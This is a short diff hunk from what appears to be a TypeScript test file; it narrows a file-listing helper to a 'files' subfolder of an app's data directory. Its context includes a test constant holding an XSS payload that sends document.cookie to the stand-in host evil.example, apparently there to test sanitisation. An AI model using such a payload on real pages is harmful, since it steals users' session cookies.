@@ -19,7 +19,7 @@ const bytes = (...parts: (string | Uint8Array)[]) =>
 const SCRIPT = '<script>fetch("https://evil.example/" + document.cookie)</script>'
 
 /** Every file below the data directory. */
-function filesOnDisk(folder = till.app.dataDir): string[] {
+function filesOnDisk(folder = join(till.app.dataDir, 'files')): string[] {
   return readdirSync(folder, { withFileTypes: true, recursive: true })
     .filter((entry) => entry.isFile())
     .map((entry) => join(entry.parentPath, entry.name))
